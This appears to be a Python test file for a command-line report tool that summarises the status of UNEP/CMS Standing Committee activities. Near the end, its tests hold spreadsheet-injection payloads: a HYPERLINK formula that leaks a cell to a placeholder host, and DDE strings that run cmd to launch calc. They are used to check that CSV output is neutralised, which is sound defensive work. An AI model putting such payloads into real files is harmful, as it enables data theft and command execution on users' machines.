"""`stc-report status`: every activity's status and the counts, as the report has them, without a
report and without Dagster; and the data issues marked new or known against the report marked as sent to the
Committee, as the staff page marks them (status, validate, run)."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from cli.main import main
from pipeline.assemble import build_report
from pipeline.history.known_issues import issue_record
from pipeline.inputs.load import read_inputs
from pipeline.status.timeframes import timeframe_issues
from tests.conftest import BUNDLED_INPUTS, PROJECT, edit_sheet, find_row, header_column


@pytest.fixture(autouse=True)
def private_dagster_home(tmp_path, monkeypatch):
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster_home"))


@pytest.fixture(scope="module")
def report():
    return build_report(read_inputs(BUNDLED_INPUTS), "StC38")


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def programmes(report):
    return [report.reported, report.planned]


def previous_report(outputs: Path, issues, sent: bool = True) -> Path:
    """A report of StC38 made earlier, as report.json records it, with these data issues; marked as
    sent to the Committee unless `sent` is False (a draft)."""
    folder = outputs / "StC38" / "2026-11-01_090000_as-of-2011-08-31_abcdef12"
    folder.mkdir(parents=True)
    (folder / "report.json").write_text(json.dumps({
        "meeting": "StC38", "symbol": "UNEP/CMS/StC38/Doc.3", "as_of": "2011-08-31",
        "generated_at": "2026-11-01T09:00:00", "run_id": "abcdef12", "summary": {}, "files": {},
        "issues": issue_record(issues)}), "utf-8")
    if sent:
        from pipeline.publish.report_choices import record_choice
        record_choice(folder.parent, folder.name, "official", "staff")
    return folder


def all_issues():
    inputs = read_inputs(BUNDLED_INPUTS)
    return list(inputs.issues) + timeframe_issues(
        [a for a in inputs.activities if a.programme_id in ("JA 2008-2011", "JWP 2012-2014")], inputs.programmes)


def test_the_table_lists_every_activity_with_its_reason_and_the_counts(capsys, report, tmp_path):
    code, out, err = run(capsys, "status", "--meeting", "StC38", "--outputs", str(tmp_path))
    assert code == 0 and err == ""
    assert out.splitlines()[0] == "Status of the activities of StC38 as of 31 August 2011"
    for p in programmes(report):
        assert f"{p.programme.title} ({p.programme.id}): {p.total.total} activities" in out
        for s in p.statuses:
            line = next(l for l in out.splitlines() if l.startswith(s.activity.code + " ") and s.reason in l)
            assert s.status.value in line
        for r in p.rollups:
            if r.dimension == "theme":
                assert f"({r.key}) {r.label}"[:49] in out
    assert "Data issues: 19 data issues (no report marked as sent to the Committee to compare with)." in out


def test_csv_gives_the_reports_statuses_and_counts(capsys, report, tmp_path):
    code, out, err = run(capsys, "status", "--meeting", "StC38", "--format", "csv", "--outputs", str(tmp_path))
    assert code == 0
    activities, counts = out.split("\n\n", 1)
    rows = list(csv.DictReader(io.StringIO(activities)))
    expected = [(p.programme.id, s.activity.code, s.status.value, s.reason,
                 s.next_due.isoformat() if s.next_due else "") for p in programmes(report) for s in p.statuses]
    assert [(r["Programme"], r["Code"], r["Status"], r["Reason"], r["Next due"]) for r in rows] == expected
    table = list(csv.DictReader(io.StringIO(counts)))
    totals = {(r["Programme"], r["Counted"], r["Name"]): r for r in table}
    for p in programmes(report):
        for rollup in p.rollups:
            name = p.programme.title if rollup.dimension == "programme" else (
                f"({rollup.key}) {rollup.label}" if rollup.dimension == "theme" else rollup.label)
            kind = {"programme": "Total", "theme": "Theme", "species": "Species"}[rollup.dimension]
            row = totals[(p.programme.id, kind, name)]
            assert int(row["Activities"]) == rollup.total
            for status, n in rollup.counts:
                if status.value in row:
                    assert int(row[status.value]) == n
    assert "Data issues: 19 data issues" in err  # the data on stdout stays clean


def test_json_counts_equal_the_report(capsys, report, tmp_path):
    code, out, _ = run(capsys, "status", "--meeting", "StC38", "--as-of", "2011-08-31", "--format", "json",
                       "--outputs", str(tmp_path))
    data = json.loads(out)
    assert code == 0 and data["meeting"] == "StC38" and data["as_of"] == "2011-08-31"
    for found, p in zip(data["programmes"], programmes(report)):
        assert found["counts"] == {s.value: n for s, n in p.total.counts if n}
        assert [a["status"] for a in found["activities"]] == [s.status.value for s in p.statuses]
        species = {r.key: r.total for r in p.rollups if r.dimension == "species"}
        assert {k: v["total"] for k, v in found["species"].items()} == species


def test_another_date_gives_that_dates_statuses(capsys, tmp_path):
    earlier = build_report(read_inputs(BUNDLED_INPUTS), "StC38", as_of=__import__("datetime").date(2009, 12, 31))
    code, out, _ = run(capsys, "status", "--meeting", "StC38", "--as-of", "2009-12-31", "--format", "json",
                       "--outputs", str(tmp_path))
    assert code == 0
    found = json.loads(out)["programmes"][0]
    assert found["counts"] == {s.value: n for s, n in earlier.reported.total.counts if n}


def test_wrong_arguments_are_refused_in_plain_words(capsys, tmp_path):
    code, _, err = run(capsys, "status", "--meeting", "StC99", "--outputs", str(tmp_path))
    assert code == 2 and "Meeting 'StC99' is not in meetings.xlsx" in err and "Traceback" not in err
    with pytest.raises(SystemExit) as stopped:
        main(["status", "--meeting", "StC38", "--as-of", "31/08/2011"])
    assert stopped.value.code == 2
    assert "'31/08/2011' is not a date" in capsys.readouterr().err
    code, _, err = run(capsys, "status", "--meeting", "StC38", "--inputs", str(tmp_path / "none"))
    assert code == 2 and "does not exist" in err


def test_status_needs_neither_dagster_nor_a_report(tmp_path):
    script = ("import sys; from cli.main import main; code = main(['status', '--meeting', 'StC38', '--outputs', "
              f"{str(tmp_path)!r}]); print('DAGSTER' if any(m == 'dagster' or m.startswith('dagster.') "
              "for m in sys.modules) else 'NO DAGSTER', code)")
    done = subprocess.run([sys.executable, "-c", script], cwd=PROJECT, capture_output=True, text=True, timeout=120)
    assert done.stdout.strip().endswith("NO DAGSTER 0"), done.stderr
    assert not any(tmp_path.iterdir())  # nothing written


def test_issues_of_the_previous_report_are_known_and_new_ones_come_first(capsys, tmp_path):
    issues = all_issues()
    previous_report(tmp_path, issues[1:])
    code, out, _ = run(capsys, "status", "--meeting", "StC38", "--outputs", str(tmp_path))
    assert code == 0
    listed = out[out.index("Data issues: "):].splitlines()
    assert listed[0] == (f"Data issues: 1 new data issue; {len(issues) - 1} already in the report sent to the "
                         "Committee.")
    assert listed[1].startswith(f"  - new: {issues[0].place}")
    assert all(line.startswith("  - known: ") for line in listed[2:]) and len(listed) == len(issues) + 1

    code, out, _ = run(capsys, "validate", "--outputs", str(tmp_path))
    lines = out.splitlines()
    assert code == 0 and lines[1].startswith("Nothing must be fixed; ")
    assert lines[2] == (f"Compared with the report sent to the Committee: 1 new data issue; {len(issues) - 1} "
                        "already in the report sent to the Committee.")
    warnings = lines[lines.index(next(l for l in lines if l.startswith("Warnings"))) + 1:]
    assert warnings[0].startswith(f"  - new: {issues[0].place}") and all(w.startswith("  - known: ") for w in warnings[1:])


def test_a_hidden_previous_report_is_not_compared_with(capsys, tmp_path):
    from pipeline.publish.report_choices import record_choice

    folder = previous_report(tmp_path, all_issues()[1:])
    record_choice(folder.parent, folder.name, "hide", "staff")
    code, out, _ = run(capsys, "status", "--meeting", "StC38", "--outputs", str(tmp_path))
    assert "(no report marked as sent to the Committee to compare with)" in out


def test_a_draft_is_not_compared_with_as_on_the_staff_page(capsys, tmp_path):
    """Issue 18: "known" means listed in the report marked as sent, on the command line as on the page;
    an issue only a draft listed has been reviewed by nobody."""
    previous_report(tmp_path, all_issues()[1:], sent=False)
    for command in ("status", "validate"):
        code, out, _ = run(capsys, command, "--meeting", "StC38", "--outputs", str(tmp_path))
        assert code == 0 and "already in" not in out and "known: " not in out, command
    code, out, _ = run(capsys, "status", "--meeting", "StC38", "--outputs", str(tmp_path))
    assert "(no report marked as sent to the Committee to compare with)" in out


def test_a_run_lists_the_new_issues_and_records_its_own(capsys, tmp_path):
    issues = all_issues()
    outputs = tmp_path / "out"
    previous_report(outputs, issues[1:])
    code, out, err = run(capsys, "run", "--meeting", "StC38", "--outputs", str(outputs), "--no-pdf")
    assert code == 0, err
    assert (f"Data issues, listed in the workbook's 'Data issues' sheet (see `stc-report validate`): "
            f"1 new data issue; {len(issues) - 1} already in the report sent to the Committee.") in out
    assert f"  - new: {issues[0].place}" in out
    made = max(p for p in (outputs / "StC38").iterdir() if p.is_dir())
    recorded = json.loads((made / "report.json").read_text("utf-8"))["issues"]
    assert recorded == issue_record(issues)
    from openpyxl import load_workbook
    sheet = load_workbook(next(made.glob("*.xlsx")))["Data issues"]
    assert [sheet.cell(row=r, column=1).value for r in range(2, 4)] == ["new", "known (in the report sent)"]



FORMULAS = {"A.1": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "A.2": "+cmd|' /C calc'!A0",
            "A.3": "@SUM(1+1)*cmd|' /C calc'!A0", "A.4": "-2+3+cmd|' /C calc'!A0"}
TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"title")'


def _text_cell(folder: Path, sheet: str, row: int, header: str, value: str) -> None:
    """Put `value` in as text, even where it starts with '=' (openpyxl would store a formula)."""
    def edit(ws):
        cell = ws.cell(row, header_column(ws, header))
        cell.value = value
        cell.data_type = "s"

    edit_sheet(folder, "programmes.xlsx", sheet, edit)


def test_csv_cells_that_start_like_a_formula_are_neutralised_and_json_stays_exact(inputs_copy, capsys, tmp_path):
    """OWASP's advice for CSV injection: text starting with =, +, -, @, tab or return gets a leading ' in
    the CSV (Excel then shows it as text); the Total row's programme title too. JSON keeps the text as is."""
    _text_cell(inputs_copy, "Programmes", 2, "Title", TITLE)
    for code, text in FORMULAS.items():
        _text_cell(inputs_copy, "Activities", find_row(inputs_copy, "programmes.xlsx", "Activities", "Code", code),
                   "Description", text)
    args = ("status", "--meeting", "StC38", "--inputs", str(inputs_copy), "--outputs", str(tmp_path))
    code, out, err = run(capsys, *args, "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    total = next(row for row in rows if row[:2] == ["JA 2008-2011", "Total"])
    assert total[2] == f"'{TITLE}"
    descriptions = {row[1]: row[-1] for row in rows if row[:1] == ["JA 2008-2011"] and row[1] in FORMULAS}
    assert descriptions == {code: f"'{text}" for code, text in FORMULAS.items()}
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    code, out, _ = run(capsys, *args, "--format", "json")
    programme = next(p for p in json.loads(out)["programmes"] if p["id"] == "JA 2008-2011")
    assert programme["title"] == TITLE
    assert {a["code"]: a["description"] for a in programme["activities"] if a["code"] in FORMULAS} == FORMULAS


def test_tab_and_return_starts_are_neutralised_too_and_numbers_are_left_alone():
    from pipeline.status.glance import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("\tcmd", "\r=1", "-", "a=b", "", 3, -2)] == \
        ["'\tcmd", "'\r=1", "'-", "a=b", "", 3, -2]
